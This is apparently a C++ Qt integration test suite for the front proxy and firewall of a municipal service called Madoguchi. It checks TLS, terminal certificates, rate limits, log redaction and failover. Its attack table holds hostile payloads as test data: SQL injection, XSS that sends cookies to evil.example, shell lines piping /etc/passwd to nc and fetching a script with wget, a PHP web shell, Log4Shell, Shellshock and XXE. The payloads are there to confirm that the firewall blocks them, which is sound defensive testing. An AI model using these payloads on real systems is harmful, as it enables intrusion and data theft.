// SPDX-FileCopyrightText: 2026 The Madoguchi authors
// SPDX-License-Identifier: Apache-2.0

#include "tests/support/deploy/Front.h"

#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QRandomGenerator>
#include <QtTest>

#include <algorithm>

namespace madoguchi::test {

namespace {

const QString corpus = QStringLiteral(MADOGUCHI_FIXTURES "/corpus/");

QByteArray withdrawal(const QString& reason, const QString& token = QString(43, u'x'))
{
    return QJsonDocument(QJsonObject{{u"caseId"_qs, u"352021-00000001"_qs}, {u"token"_qs, token}, {u"reason"_qs, reason}}).toJson(QJsonDocument::Compact);
}

QStringList json(const QByteArray& body)
{
    return {u"--header"_qs, u"Content-Type: application/json"_qs, u"--data-binary"_qs, QString::fromUtf8(body)};
}

QStringList submission(const QString& file)
{
    return {u"--header"_qs, u"Content-Type: application/pkcs7-mime"_qs, u"--data-binary"_qs, u'@' + file};
}

/// The number of the log that a following terminal has said last; the line it is saying does not count.
int lastSeq(const QByteArray& said)
{
    const QByteArray whole = said.left(said.lastIndexOf('\n'));
    return QJsonDocument::fromJson(whole.mid(whole.lastIndexOf('\n') + 1)).object()[QLatin1String("seq")].toInt();
}

}  // namespace

/// The files of installer/ started for real: what they let through, what they stop, and what they write down.
class FrontTest : public QObject {
    Q_OBJECT

private:
    QString citizens(const char* resource) const { return m_front.citizens() + u"/v1/352021/"_qs + QLatin1String(resource); }
    QString terminals(const char* resource) const { return m_front.terminals() + u"/v1/352021/"_qs + QLatin1String(resource); }
    /// Each from an address of its own, so that the limit on one does not decide.
    QStringList fromElsewhere() { return {u"--interface"_qs, u"127.0.1.%1"_qs.arg(++m_addresses % 250 + 1)}; }
    /// Requests that the clouds have seen so far.
    qsizetype seen() const { return m_front.cloudLogs().count("\"event\":\"request\""); }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY2(m_world.build(12) && m_world.addStaff(u"sato"_qs) && m_world.addStaff(u"kato"_qs), qPrintable(m_world.problem()));
        QVERIFY2(m_front.start(), qPrintable(m_front.problem()));
        m_world.useUrl(m_front.terminals());
        QVERIFY2(m_world.addTerminal(u"mado1"_qs) && m_world.addTerminal(u"mado2"_qs), qPrintable(m_world.problem()));
    }

    void citizensSendOnOneSideAndTerminalsPullOnTheOther()
    {
        m_world.useUrl(m_front.citizens());
        const Ran submit = m_world.submit();
        QVERIFY2(submit.exitCode == 0, submit.err.constData());
        m_world.useUrl(m_front.terminals());
        for (const auto& [terminal, staff] : {std::pair{u"mado1"_qs, u"sato"_qs}, std::pair{u"mado2"_qs, u"kato"_qs}}) {
            const Ran sync = m_world.ctl(terminal, staff, {u"sync"_qs});
            QVERIFY2(sync.exitCode == 0, sync.err.constData());
            QVERIFY(m_world.cases(terminal, staff).size() >= 12);
        }
        QCOMPARE(m_world.cases(u"mado1"_qs, u"sato"_qs), m_world.cases(u"mado2"_qs, u"kato"_qs));
    }

    void anotherTerminalSeesAnActWithinASecond()
    {
        const QStringList cases = m_world.cases(u"mado1"_qs, u"sato"_qs).keys();
        const auto follower = m_world.startCtl(u"mado2"_qs, u"kato"_qs, {u"sync"_qs, u"--follow"_qs});
        QByteArray said;
        QTRY_VERIFY_WITH_TIMEOUT((said += follower->readAllStandardOutput()).contains("\"state\":\"waiting\""), 30'000);
        QList<qint64> delays;
        for (int i = 0; i < 5; ++i) {
            const int before = lastSeq(said);
            const Ran act = m_world.ctl(u"mado1"_qs, u"sato"_qs, {u"act"_qs, cases.at(i), u"claim"_qs});
            QElapsedTimer timer;
            timer.start();
            QVERIFY2(act.exitCode == 0, act.err.constData());
            QTRY_VERIFY_WITH_TIMEOUT(lastSeq(said += follower->readAllStandardOutput()) > before, 30'000);
            delays.append(timer.elapsed());
        }
        follower->terminate();
        QVERIFY(follower->waitForFinished());
        std::ranges::sort(delays);
        QVERIFY2(delays.at(2) < 1'000, qPrintable(u"%1 ms"_qs.arg(delays.at(2))));
        QCOMPARE(m_world.cases(u"mado1"_qs, u"sato"_qs), m_world.cases(u"mado2"_qs, u"kato"_qs));
    }

    /// What stands in a submission is the cloud's to judge: the good ones are taken, and none of the others ends at the firewall.
    void everySubmissionPassesTheFirewall()
    {
        QFile manifest(corpus + u"manifest.json"_qs);
        QVERIFY(manifest.open(QIODevice::ReadOnly));
        int good = 0;
        for (const QJsonValue item : QJsonDocument::fromJson(manifest.readAll()).object()[QLatin1String("cases")].toArray()) {
            const QString file = corpus + u"cases/"_qs + item[QLatin1String("file")].toString();
            const bool isGood = item[QLatin1String("outcome")].toString() == u"good"_qs;
            const Front::Answer answer = m_front.ask(citizens("submissions"), fromElsewhere() + submission(file));
            const bool isRight = isGood ? answer.status == 201 : answer.status != 403 && answer.status != 0;
            QVERIFY2(isRight, qPrintable(u"%1: %2 %3"_qs.arg(file).arg(answer.status).arg(QString::fromUtf8(answer.body))));
            good += isGood ? 1 : 0;
        }
        QVERIFY(good > 50);
    }

    void aSubmissionMayHoldAnyBytes()
    {
        QRandomGenerator random(20261124);
        for (int i = 0; i < 10; ++i) {
            QByteArray bytes(i == 0 ? 1024 * 1024 : 100'000, '\0');
            std::ranges::generate(bytes, [&] { return char(random.bounded(256)); });
            // How serialised Java begins, which the core rules look for; by chance it stands in one of some thousand submissions.
            bytes.replace(random.bounded(50'000), 4, QByteArray("\xac\xed\x00\x05", 4));
            QFile file(m_world.path(u"random"_qs));
            QVERIFY(file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size() && file.flush());
            QCOMPARE(m_front.ask(citizens("submissions"), fromElsewhere() + submission(file.fileName())).problem(), u"cms"_qs);
        }
    }

    void whatACitizenMayWellWritePassesTheFirewall_data()
    {
        QTest::addColumn<QString>("reason");
        QTest::newRow("nothing") << QString();
        QTest::newRow("no longer needed") << u"もう必要なくなりました。"_qs;
        QTest::newRow("an apology with a date") << u"申し訳ありません。12/1（火）に窓口で受け取りました；手数料¥300は返金してください！"_qs;
        QTest::newRow("lines") << u"理由：\n1. 住所をまちがえた\n2. 通数もまちがえた"_qs;
        QTest::newRow("quotation marks") << u"「戸籍」と'住民票'を選び間違えました（\"除票\"が必要）"_qs;
        QTest::newRow("English") << u"I selected the wrong certificate and would like to order another one from the update page."_qs;
        QTest::newRow("a name with an apostrophe") << u"O'Brien & Söhne – moved to 2-1-3 Tokiwa"_qs;
        QTest::newRow("full width") << u"先日の件；再申請します（理由：住所）"_qs;
        QTest::newRow("rules") << u"--以上--"_qs;
        QTest::newRow("an address on the web") << u"http://www.city.example.jp を見て分かった"_qs;
        QTest::newRow("a rare character") << u"𠮷田の髙と﨑が違いました"_qs;
    }

    void whatACitizenMayWellWritePassesTheFirewall()
    {
        QFETCH(QString, reason);
        for (const QString& token : {QString(43, u'x'), u"a--b_-c--1OR1--SELECT-_union--0x41-admin--xyz"_qs.left(43)}) {
            const Front::Answer answer = m_front.ask(citizens("withdrawals"), fromElsewhere() + json(withdrawal(reason, token)));
            QVERIFY2(answer.status == 404, answer.body.constData());
            QCOMPARE(answer.problem(), u"case-unknown"_qs);
        }
    }

    void attacksEndAtTheFirewall_data();

    void attacksEndAtTheFirewall()
    {
        QFETCH(QString, path);
        QFETCH(QStringList, options);
        const qsizetype before = seen();
        const Front::Answer answer = m_front.ask(m_front.citizens() + path, fromElsewhere() + options);
        QVERIFY2(answer.status == 403, qPrintable(u"%1 %2"_qs.arg(answer.status).arg(QString::fromUtf8(answer.body))));
        QCOMPARE(seen(), before);
    }

    void whoIsNoTerminalIsRefused()
    {
        const Front::Answer none = m_front.ask(terminals("log"));
        QCOMPARE(none.status, 403);
        QCOMPARE(none.problem(), u"terminal-refused"_qs);
        // The proxy's own certificate is of the right CA, and still no terminal's.
        const QStringList proxy{u"--cert"_qs, m_world.path(u"proxy/cert.pem"_qs), u"--key"_qs, m_world.path(u"proxy/key.pem"_qs)};
        QCOMPARE(m_front.ask(terminals("log"), proxy).problem(), u"terminal-refused"_qs);
        QCOMPARE(m_front.ask(terminals("log"), m_front.as(u"mado1"_qs)).problem(), u"session-expired"_qs);
        QVERIFY2(m_world.addTerminal(u"mado3"_qs), qPrintable(m_world.problem()));
        QCOMPARE(m_front.ask(terminals("log"), m_front.as(u"mado3"_qs)).problem(), u"session-expired"_qs);
        QCOMPARE(m_world.cloud({u"terminal"_qs, u"revoke"_qs, u"mado3"_qs}).exitCode, 0);
        QCOMPARE(m_front.ask(terminals("log"), m_front.as(u"mado3"_qs)).problem(), u"terminal-refused"_qs);
    }

    void aForgedHeaderChangesNothing()
    {
        QFile file(m_world.path(u"certificate-mado2/cert.pem"_qs));
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QStringList forged{u"--header"_qs, u"X-Client-Verify: SUCCESS"_qs, u"--header"_qs,
                                 u"X-Client-Cert: "_qs + QString::fromLatin1(file.readAll().toPercentEncoding())};
        QCOMPARE(m_front.ask(terminals("sessions"), forged + json("{\"staffId\":\"sato\"}")).problem(), u"terminal-refused"_qs);
        const QByteArray before = m_front.cloudLogs();
        QCOMPARE(m_front.ask(terminals("sessions"), m_front.as(u"mado1"_qs) + forged + json("{\"staffId\":\"sato\"}")).status, 200);
        QCOMPARE(m_front.cloudLogs().count("\"terminal\":\"mado1\""), before.count("\"terminal\":\"mado1\"") + 1);
        QCOMPARE(m_front.cloudLogs().count("\"terminal\":\"mado2\""), before.count("\"terminal\":\"mado2\""));
    }

    void neitherSideHasWhatIsTheOthers()
    {
        for (const char* resource : {"log", "acts", "sessions", "submissions/1"}) {
            QCOMPARE(m_front.ask(citizens(resource), fromElsewhere()).status, 404);
        }
        for (const char* resource : {"submissions", "withdrawals"}) {
            QCOMPARE(m_front.ask(terminals(resource), m_front.as(u"mado1"_qs) + json(withdrawal({}))).status, 404);
        }
        QCOMPARE(m_front.ask(m_front.citizens() + u"/metrics"_qs, fromElsewhere()).status, 404);
        QCOMPARE(m_front.ask(m_front.terminals() + u"/metrics"_qs, m_front.as(u"mado1"_qs)).status, 404);
    }

    void onlyModernTlsIsSpoken_data()
    {
        QTest::addColumn<QStringList>("options");
        QTest::addColumn<bool>("taken");
        // Level 0, so that it is the front that refuses and not curl.
        const QString anything = u"ALL:@SECLEVEL=0"_qs;
        QTest::newRow("TLS 1.0") << QStringList{u"--tlsv1.0"_qs, u"--tls-max"_qs, u"1.0"_qs, u"--ciphers"_qs, anything} << false;
        QTest::newRow("TLS 1.1") << QStringList{u"--tlsv1.1"_qs, u"--tls-max"_qs, u"1.1"_qs, u"--ciphers"_qs, anything} << false;
        QTest::newRow("TLS 1.2 with CBC") << QStringList{u"--tls-max"_qs, u"1.2"_qs, u"--ciphers"_qs, u"ECDHE-ECDSA-AES256-SHA384:ECDHE-ECDSA-AES128-SHA:@SECLEVEL=0"_qs} << false;
        QTest::newRow("TLS 1.2 with GCM") << QStringList{u"--tls-max"_qs, u"1.2"_qs, u"--ciphers"_qs, u"ECDHE-ECDSA-AES256-GCM-SHA384"_qs} << true;
        QTest::newRow("TLS 1.3") << QStringList{u"--tlsv1.3"_qs} << true;
    }

    void onlyModernTlsIsSpoken()
    {
        QFETCH(QStringList, options);
        QFETCH(bool, taken);
        QCOMPARE(m_front.ask(m_front.citizens() + u"/healthz"_qs, fromElsewhere() + options).status, taken ? 200 : 0);
        QCOMPARE(m_front.ask(m_front.terminals() + u"/healthz"_qs, m_front.as(u"mado1"_qs) + options).status, taken ? 200 : 0);
    }

    void browsersAreToldToStayWithTls()
    {
        QVERIFY(m_front.ask(m_front.citizens() + u"/healthz"_qs, fromElsewhere() + QStringList{u"--include"_qs}).body.toLower().contains("strict-transport-security: max-age="));
    }

    void metricsAreForMonitoringOnly()
    {
        for (const QString& cloud : {u"/metrics/a"_qs, u"/metrics/b"_qs}) {
            QVERIFY(m_front.ask(m_front.operation() + cloud).body.contains("madoguchi_log_entries"));
            QCOMPARE(m_front.ask(m_front.operation() + cloud, {u"--interface"_qs, u"127.0.0.5"_qs}).status, 403);
        }
    }

    void tooMuchIsRefusedWithAWord()
    {
        QFile file(m_world.path(u"large"_qs));
        QVERIFY(file.open(QIODevice::WriteOnly) && file.write(QByteArray(1024 * 1024 + 1, '0')) > 0 && file.flush());
        QCOMPARE(m_front.ask(citizens("submissions"), fromElsewhere() + submission(file.fileName())).problem(), u"too-large"_qs);
        const Ran many = World::run(u"curl"_qs, {u"--silent"_qs, u"--ipv4"_qs, u"--cacert"_qs, m_world.ca(), u"--interface"_qs, u"127.0.0.77"_qs, u"--parallel"_qs, u"--output"_qs,
                                                 u"/dev/null"_qs, u"--write-out"_qs, u"%{http_code}\n"_qs, m_front.citizens() + u"/healthz?[1-120]"_qs});
        QVERIFY2(many.out.count("429") > 20 && many.out.count("200") >= 40, many.out.constData());
        const Ran last = World::run(u"curl"_qs, {u"--silent"_qs, u"--ipv4"_qs, u"--cacert"_qs, m_world.ca(), u"--interface"_qs, u"127.0.0.78"_qs, u"--parallel"_qs,
                                                 m_front.citizens() + u"/healthz?[1-120]"_qs});
        QVERIFY2(last.out.contains("urn:madoguchi:problem:rate-limited"), last.out.constData());
    }

    void oneRequestHasOneIdInAllLogs()
    {
        const Front::Answer answer = m_front.ask(citizens("withdrawals"), fromElsewhere() + json(withdrawal(u"id"_qs)) + QStringList{u"--include"_qs});
        const qsizetype start = answer.body.toLower().indexOf("x-request-id: ") + 14;
        const QByteArray id = answer.body.mid(start, 36);
        QVERIFY2(m_front.cloudLogs().contains(id), answer.body.constData());
        QTRY_VERIFY(m_front.frontLogs().contains(id));
    }

    void noLogSaysWhatSomebodyWrote()
    {
        const QStringList attack = fromElsewhere() + json(withdrawal(u"PELICAN' OR 1=1 UNION SELECT name FROM staff--"_qs)) + QStringList{u"--header"_qs, u"X-Note: PELICAN"_qs};
        QCOMPARE(m_front.ask(citizens("withdrawals") + u"?name=PELICAN<script>alert(1)</script>"_qs, attack).status, 403);
        QCOMPARE(m_front.ask(m_front.citizens() + u"/PELICAN"_qs, fromElsewhere()).status, 404);
        // That it was an attack, and of what kind, is said without its words.
        QTRY_VERIFY(m_front.frontLogs().contains("\"route\":\"waf-sql\",\"status\":403"));
        QVERIFY(!m_front.frontLogs().contains("PELICAN"));
        QVERIFY(!m_front.cloudLogs().contains("PELICAN"));
    }

    void theDeathOfACloudCostsNothing()
    {
        m_front.killCloud(0);
        for (int i = 0; i < 4; ++i) {
            QCOMPARE(m_front.ask(citizens("withdrawals"), fromElsewhere() + json(withdrawal({}))).status, 404);
        }
        const Ran sync = m_world.ctl(u"mado1"_qs, u"sato"_qs, {u"sync"_qs});
        QVERIFY2(sync.exitCode == 0, sync.err.constData());
        m_front.killCloud(1);
        QCOMPARE(m_front.ask(citizens("withdrawals"), fromElsewhere() + json(withdrawal({}))).problem(), u"storage"_qs);
        QCOMPARE(m_world.cloud({u"check"_qs}).exitCode, 0);
    }

    void theFilesAreWellFormed_data()
    {
        QTest::addColumn<QString>("program");
        QTest::addColumn<QStringList>("arguments");
        const QString folder = m_front.configured();
        for (const QString& file : {u"cloud-host"_qs, u"counter-pc"_qs}) {
            // In a network of its own, where no right is needed.
            QTest::newRow(qPrintable(file)) << u"unshare"_qs << QStringList{u"-rn"_qs, u"/usr/sbin/nft"_qs, u"-c"_qs, u"-f"_qs, folder + u"/nftables/"_qs + file + u".nft"_qs};
        }
        QVERIFY(QFile::copy(folder + u"/systemd/madoguchi-cloud@.service"_qs, folder + u"/systemd/madoguchi-cloud@8451.service"_qs));
        for (const QString& unit : {u"madoguchi-cloud@8451"_qs, u"madoguchi-front"_qs}) {
            const QString file = folder + u"/systemd/%1.service"_qs.arg(unit);
            QTest::newRow(qPrintable(unit)) << u"systemd-analyze"_qs << QStringList{u"verify"_qs, u"--man=no"_qs, file};
            // Its scale: 0 is locked away, 100 is open.
            QTest::newRow(qPrintable(unit + u" is locked in"_qs)) << u"systemd-analyze"_qs << QStringList{u"security"_qs, u"--no-pager"_qs, u"--offline=true"_qs, u"--threshold=30"_qs, file};
        }
    }

    void theFilesAreWellFormed()
    {
        QFETCH(QString, program);
        QFETCH(QStringList, arguments);
        const Ran ran = World::run(program, arguments);
        QVERIFY2(ran.exitCode == 0, (ran.out + ran.err).constData());
    }

private:
    World m_world;
    Front m_front{m_world};
    int m_addresses = 0;
};

void FrontTest::attacksEndAtTheFirewall_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QStringList>("options");
    const QString door = u"/v1/352021/submissions"_qs, withdraw = u"/v1/352021/withdrawals"_qs;
    const QStringList cms{u"--header"_qs, u"Content-Type: application/pkcs7-mime"_qs, u"--data-binary"_qs, u"x"_qs};
    const auto reason = [&](const char* name, const QString& text) { QTest::newRow(name) << withdraw << json(withdrawal(text)); };
    reason("SQL: a tautology", u"' OR '1'='1"_qs);
    reason("SQL: union", u"1 UNION ALL SELECT name, share FROM terminals--"_qs);
    reason("SQL: a second statement", u"'; DROP TABLE entries; --"_qs);
    reason("SQL: waiting", u"1' AND SLEEP(10)#"_qs);
    reason("SQL: in hexadecimal", u"0 UNION SELECT 0x61646d696e, LOAD_FILE('/etc/passwd')"_qs);
    reason("script", u"<script>fetch('//evil.example/'+document.cookie)</script>"_qs);
    reason("script in an attribute", u"<img src=x onerror=alert(1)>"_qs);
    reason("script as an address", u"<a href=\"javascript:alert(document.domain)\">x</a>"_qs);
    reason("shell", u"; cat /etc/passwd | nc evil.example 80"_qs);
    reason("shell in backquotes", u"`wget http://evil.example/x.sh -O- | sh`"_qs);
    reason("PHP", u"<?php system($_GET['c']); ?>"_qs);
    reason("Java", u"java.lang.Runtime.getRuntime().exec('id')"_qs);
    reason("Log4Shell in the body", u"${jndi:ldap://evil.example/a}"_qs);
    const auto line = [](const char* name, const QString& path, const QStringList& options = {}) { QTest::newRow(name) << path << options; };
    line("a path upwards", u"/v1/352021/../../etc/passwd"_qs);
    line("a path upwards, encoded", u"/v1/352021/%2e%2e/%2e%2e/etc/passwd"_qs);
    line("a file in the query", u"/healthz?file=../../../../etc/shadow"_qs);
    line("SQL in the query at the door", door + u"?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"_qs, cms);
    line("script in the query at the door", door + u"?q=%3Cscript%3Ealert(1)%3C/script%3E"_qs, cms);
    const auto header = [&](const char* name, const QString& text) { QTest::newRow(name) << door << cms + QStringList{u"--header"_qs, text}; };
    header("Log4Shell in a header", u"X-Api-Version: ${jndi:ldap://evil.example/a}"_qs);
    header("Log4Shell in disguise", u"Referer: ${${lower:j}ndi:${lower:l}dap://evil.example/a}"_qs);
    header("Shellshock", u"User-Agent: () { :; }; /bin/bash -c 'id'"_qs);
    header("scanner: sqlmap", u"User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"_qs);
    header("scanner: Nikto", u"User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"_qs);
    header("scanner: masscan", u"User-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)"_qs);
    header("script in a cookie", u"Cookie: a=<script>alert(1)</script>"_qs);
    line("a form at the door", door, {u"--data"_qs, u"a=1"_qs});
    line("XML", withdraw, {u"--header"_qs, u"Content-Type: application/xml"_qs, u"--data"_qs, u"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"_qs});
    line("a message where none belongs", withdraw, cms);
    line("JSON without end", withdraw, json("{\"reason\":\"x"));
    line("JSON too deep", withdraw, json(QByteArray(200, '[') + QByteArray(200, ']')));
    line("a method of others", u"/healthz"_qs, {u"--request"_qs, u"PROPFIND"_qs});
}

}  // namespace madoguchi::test

QTEST_GUILESS_MAIN(madoguchi::test::FrontTest)
#include "FrontTest.moc"
